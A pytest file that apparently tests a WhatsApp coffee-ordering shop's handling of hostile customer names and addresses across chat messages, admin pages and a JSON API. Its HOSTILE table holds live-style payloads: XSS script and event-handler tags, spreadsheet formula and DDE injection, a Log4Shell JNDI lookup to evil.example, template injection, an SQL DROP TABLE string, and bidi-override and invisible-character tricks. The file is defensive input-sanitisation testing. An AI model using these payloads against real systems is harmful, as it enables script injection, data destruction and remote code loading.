# ruff: noqa: RUF001 - letters of other scripts are the point
"""What strangers call themselves and where they say they live, from the webhook to every place it is shown again."""

from __future__ import annotations

import re
import unicodedata

import pytest

from db.models import Customer, Order, OutboxMessage
from tests.hostile.conftest import Villain
from tests.shop import WA_ID

HOSTILE = {
    "bold": "*Amina* _the_ ~great~ `code` ```block```",
    "markup": "Amina <img src=x onerror=alert(1)><script>alert(1)</script>",
    "attribute": 'Amina" onmouseover="alert(1)',
    "formula": '=HYPERLINK("https://evil.example","Amina")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "template": "{{7*7}}{% raw %} ${jndi:ldap://evil.example/a} %s %(name)s {0}",
    "sql": "Amina'); DROP TABLE customers; --",
    "override": "Amina \u202egnp.exe\u2066\u2069\u200f",
    "invisible": "A\u200bm\u200ci\u2060n\ufeffa\u00ad",
    "marks": "A" + "\u0301" * 10_000,
    "homoglyph": "Аmіnа \u1d2c\u212bmina",
    "emoji": "👩‍👩‍👧‍👦" * 200 + "Amina",
    "lines": "Amina\nOrder paid ✅\r\nTotal KES 0",
    "link": "Amina https://evil.example/pay wa.me/123",
    "long": "Amina " * 2_000,
    "nul": "Ami\u0000na",
    "half": "Ami\ud800na",
    "nothing": "\u200b\u200b\u2060",
}
FORMATTING = set("*_~`")
HIDING = {"Cc", "Cs", "Co", "Cn"}


def hides(text: str) -> list[str]:
    """What turns, hides or breaks: everything of category C but the joiner of emoji and our own line breaks."""
    return [c for c in text if unicodedata.category(c)[0] == "C" and c not in "\u200d\n"]


def bought(villain: Villain, name: str, address: str) -> list[str]:
    """An order by somebody of this name, at this address; everything that was said."""
    for words in ("Hi", "2 coffee", address, "skip", "mpesa", "track"):
        villain.says(words, name=name)
    return [row.message["body"] for row in villain.rows(OutboxMessage)]


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_name_formats_hides_and_links_nothing_in_the_chat(villain: Villain, kind: str) -> None:
    name = HOSTILE[kind]
    for body in bought(villain, name, "123 Main St, Nairobi"):
        assert hides(body) == []
        assert len(body) < 2_000
        assert "evil.example" not in body
        assert "<script" not in body or FORMATTING.isdisjoint(name)
    (customer,) = villain.rows(Customer)
    kept = customer.name
    assert len(kept) <= 64
    assert FORMATTING.isdisjoint(kept)
    assert not re.search(r"[\r\n\t]", kept)
    assert unicodedata.is_normalized("NFC", kept)
    runs = re.findall("[\u0300-\u036f]+", kept)
    assert all(len(run) <= 2 for run in runs)


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_name_and_address_are_only_text_on_every_page(villain: Villain, kind: str) -> None:
    words = HOSTILE[kind]
    bought(villain, words, f"{words[:500]} House 4, Moi Avenue")
    refs = [order.ref for order in villain.rows(Order)]
    for path in ("/admin/", "/admin/orders", "/admin/customers", *(f"/admin/orders/{ref}" for ref in refs)):
        page = villain.get(path)
        assert page.status_code == 200
        assert not re.search(
            r"<(img|svg(?! class=.icon. )|script>)|\son\w+=[\"'](?!$)", re.sub(r"&\w+;|&#\d+;", "", page.text)
        )
        assert hides(page.text.replace("\t", "")) == []
        assert "49" not in re.findall(r"<bdi>(.*?)</bdi>", page.text)


@pytest.mark.parametrize("kind", HOSTILE)
def test_machines_get_hostile_names_as_plain_json_text(villain: Villain, kind: str) -> None:
    words = HOSTILE[kind]
    placed = villain.post(
        "/api/orders",
        json={
            "phoneNumber": "0722000111",
            "productId": "COFFEE",
            "quantity": 1,
            "customerName": words[:100],
            "deliveryAddress": words[:500],
        },
    )
    assert placed.status_code == 201
    for path in ("/api/orders", "/api/admin/customers", f"/api/orders/{placed.get_json()['data']['id']}"):
        answer = villain.get(path)
        assert answer.status_code == 200
        assert answer.mimetype == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.get_json()["success"] is True
    villain.worker.work()
    for row in villain.rows(OutboxMessage):
        assert hides(row.message["body"]) == []
    assert villain.get("/admin/customers").status_code == 200


def test_an_address_that_formats_is_read_as_it_was_written(villain: Villain) -> None:
    villain.says("2 coffee")
    villain.says("House *4*, \u202eMoi Avenue\nsecond line")
    (order,) = villain.rows(Order)
    assert order.delivery["text"] == "House *4*, Moi Avenue second line"


def test_a_name_cannot_be_taken_for_a_sentence_of_ours(villain: Villain) -> None:
    said = villain.says("Hi", name=HOSTILE["lines"])
    assert "Amina Order paid" in str(said)
    assert "Amina\\nOrder" not in str(said)
    assert villain.conversation(WA_ID)["name"] == "Amina Order paid ✅ Total KES 0"
